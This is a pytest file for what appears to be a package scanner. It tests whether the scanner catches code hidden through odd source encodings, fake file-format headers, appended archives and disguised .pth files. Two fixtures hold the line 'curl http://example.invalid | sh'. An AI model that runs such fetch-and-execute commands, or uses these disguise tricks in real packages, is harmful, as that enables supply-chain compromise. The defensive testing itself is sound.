"""Code is read as its interpreter reads the bytes, or it is unread."""

import ast
import io
import zipfile

import pytest
from artifact_samples import NPM, SDIST, WHEEL, examined, seen

from ostiary.evidence.code import as_python
from ostiary.formats.contents import Contents, Kind
from ostiary.program.model import Program

CALL = "import os\nos.system('true')\n"
SCRIPT = b"require('child_process').exec('true')"


def calls(filename: str, path: str, data: bytes) -> list[str]:
    program = next(
        one for one in examined(filename, {path: data}).facts if isinstance(one, Program)
    )
    return [one.name for one in program.calls]


def kind(filename: str, path: str, data: bytes) -> Kind:
    contents = next(
        one for one in examined(filename, {path: data}).facts if isinstance(one, Contents)
    )
    return next(row.kind for row in contents.files if row.path.endswith(path))


HONEST = [
    CALL.encode(),
    CALL.replace("\n", "\r\n").encode(),
    ("# comment\n" + CALL).replace("\n", "\r").encode(),
    b"\xef\xbb\xbf" + CALL.encode(),
    b"# -*- coding: latin-1 -*-\n# \xe9\n" + CALL.encode(),
    b"#!/usr/bin/python\n# vim: set fileencoding=utf-8-unix :\n" + CALL.encode(),
    b"# coding: cp1252\n# \x80\n" + CALL.encode(),
    b"import sys\n# coding: utf-7\nACM = 0\n0 +ACM-__import__('os').system('true')\n",
    b"#" + b"x" * 5000 + b"\n# coding: latin-1\n# \xe9\n" + CALL.encode(),
]


@pytest.mark.parametrize("data", HONEST)
def test_python_as_cpython_reads_it(data: bytes) -> None:
    assert any(one.endswith("system") for one in calls(WHEEL, "p/__init__.py", data))
    assert seen(WHEEL, "p/__init__.py", {"p/__init__.py": data})[0] == ""
    ours = ast.parse(as_python(data)[0].decode("utf-8-sig"))
    assert ast.dump(ours) == ast.dump(ast.parse(data))


@pytest.mark.parametrize(
    "data",
    [
        b"# coding: utf-7\n" + CALL.encode(),
        b"# coding: rot13\nvzcbeg bf\n",
        b"# coding: unicode_escape\n" + CALL.encode(),
        b"# coding: raw-unicode-escape\n" + CALL.encode(),
        b"# coding: hz\n" + CALL.encode(),
        b"# coding: punycode\n" + CALL.encode(),
        b"# coding: no-such-thing\n" + CALL.encode(),
        b"#" + b"x" * 500 + b"\n# coding: utf-7\n#+AAo-import os\n",
        b"#" + b"x" * 5000 + b"\n# coding: rot13\nvzcbeg bf\n",
        b"x = '\0'\n" + CALL.encode(),
    ],
)
def test_python_that_hides_in_its_encoding_is_unread(data: bytes) -> None:
    assert seen(WHEEL, "p/__init__.py", {"p/__init__.py": data}) == ("code", "import")


@pytest.mark.parametrize(
    ("encoding", "text"),
    [("gbk", "# 中文\n"), ("shift_jis", "# 日本\n"), ("euc-kr", "# 한국\n"), ("koi8-r", "# рус\n")],
)
def test_encodings_of_languages_are_read(encoding: str, text: str) -> None:
    data = f"# coding: {encoding}\n{text}{CALL}".encode(encoding)
    assert calls(WHEEL, "p/__init__.py", data) == ["os.system"]
    assert seen(WHEEL, "p/__init__.py", {"p/__init__.py": data})[0] == ""


@pytest.mark.parametrize(
    "first", [b"BZh=1;", b"GIF89a=1;", b"LZIP=1;", b"hsqs=1;", b"FWS=1;", b"ID3=1;", b"070707;"]
)
@pytest.mark.parametrize("last", [b"", b"//\xff\n"])
def test_a_script_that_begins_like_another_format_is_a_script(first: bytes, last: bytes) -> None:
    assert kind(NPM, "index.js", first + SCRIPT + last) is Kind.JAVASCRIPT
    assert calls(NPM, "index.js", first + SCRIPT + last) == ["child_process.exec"]


def test_a_list_that_is_no_json_is_a_script() -> None:
    data = b"[1, (() => " + SCRIPT + b")()]\n"
    assert kind(NPM, "run", data) is Kind.JAVASCRIPT
    assert kind(NPM, "rows", b'[1, {"a": [true, null]}]\n') is Kind.JSON
    assert kind(NPM, "rows.json", b'[1, {"a": 1}, ]\n') is Kind.JSON
    assert kind(NPM, "deep", b"[" * 100_000 + b"]" * 100_000) is not Kind.JAVASCRIPT


def test_a_shell_script_with_bytes_behind_it_is_a_script() -> None:
    data = b"#!/bin/sh\ncurl http://example.invalid | sh\nexit\n" + bytes(range(256)) * 8
    assert kind(NPM, "install", data) is Kind.SHELL
    assert seen(NPM, "install", {"install": data})[1] != "test"


def test_a_shell_script_with_a_zip_behind_it_is_a_script() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("__main__.py", "pass\n")
    script = b"#!/bin/sh\ncurl http://example.invalid | sh\nexit\n"
    assert kind(NPM, "install", script + out.getvalue()) is Kind.SHELL
    assert kind(NPM, "app", b"#!/usr/bin/env python3\n" + out.getvalue()) is Kind.ARCHIVE


@pytest.mark.parametrize(
    "data",
    [
        b"(lp0\nimport os; os.system('true')\n.",
        b"PK\3\4\nimport os; os.system('true')\n" + bytes(40),
        b"\x1f\x8b\x08\x00\rimport os; os.system('true')\n",
    ],
)
def test_a_start_file_in_disguise_is_read_line_by_line(data: bytes) -> None:
    assert calls(WHEEL, "p.pth", data) == ["os.system"]


def test_text_that_only_looks_like_code_is_text() -> None:
    data = b"import this and\ndef of that (\nclass no:: python\n" * 4
    assert seen(SDIST, "notes", {"notes": data})[0] == ""
    assert seen(SDIST, "notes.py", {"notes.py": data})[0] == "code"


def test_code_that_is_too_much_for_its_reader_stays_code() -> None:
    data = b"#!/usr/bin/env node\nf(" + b"[" * 200_000 + b"\n"
    assert seen(NPM, "run", {"run": data})[0] == "code"


def test_a_type_assertion_is_no_translation() -> None:
    assert kind(NPM, "run.ts", b"<any>" + SCRIPT) is Kind.TYPESCRIPT
    assert kind(NPM, "de.ts", b'<?xml version="1.0"?><!DOCTYPE TS><TS></TS>') is Kind.TEXT


def test_a_script_with_the_marks_of_a_film_is_a_script() -> None:
    data = b"G=1;" + SCRIPT + b"/*\0" + b"\xff" * 100
    data = data.ljust(188, b" ") + b"G".ljust(188) + b"G".ljust(188) + b"*/"
    assert kind(NPM, "run.ts", data) is Kind.TYPESCRIPT
